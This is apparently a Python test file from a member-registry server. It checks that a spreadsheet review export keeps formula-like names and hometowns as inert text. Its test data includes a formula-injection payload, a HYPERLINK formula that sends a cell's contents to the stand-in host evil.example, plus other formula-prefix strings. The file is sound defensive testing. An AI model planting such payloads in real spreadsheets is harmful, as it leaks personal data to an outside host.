"""Issue 15's security items, each proven by what an attacker sent: formula injection in spreadsheets,
login throttling per client address, bounded kept payloads, JSON bombs, photo hashes as keys, and the
smaller ones (directory oracle, control characters, truncated JPEGs, absurd dates, session lifetime)."""
import io

from openpyxl import load_workbook

from server.extensions import db
from server.reconcile import run_reconciliation
from tests.conftest import add_member
from tests.sync_support import add_registry

LEAK = '=HYPERLINK("http://evil.example/?leak="&E2,"Bấm để xem")'
NASTY_TEXTS = [LEAK, "\t=1+1", "+1+1", "-2+3", "@SUM(1)", "\r=1+1", "=1"]


# ---- 1. formula injection ------------------------------------------------------------------------------

def test_the_review_export_stores_text_that_looks_like_a_formula_as_text(app, tree, login_as):
    add_registry()  # Nguyễn Văn An with citizen ID 001060012345: every member below differs by name
    for index, text in enumerate(NASTY_TEXTS):
        add_member(tree["C1"], f"X{index}", full_name=text, hometown=text)
    db.session.commit()
    run_reconciliation()
    admin = login_as("unit_admin", "P")

    response = admin.get("/api/v1/review/export.xlsx?unit=C1")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {row[0].value: (row[1], row[5]) for row in sheet.iter_rows(min_row=2)}
    for index, text in enumerate(NASTY_TEXTS):
        name, hometown = names[f"X{index}"]
        kept = text.replace("\r", "\n")  # XML reads a bare CR as a line end; the cell stays text either way
        assert name.value == kept and hometown.value == kept  # intact, the leading tab included
        assert name.quotePrefix and hometown.quotePrefix  # stays text when someone edits the cell
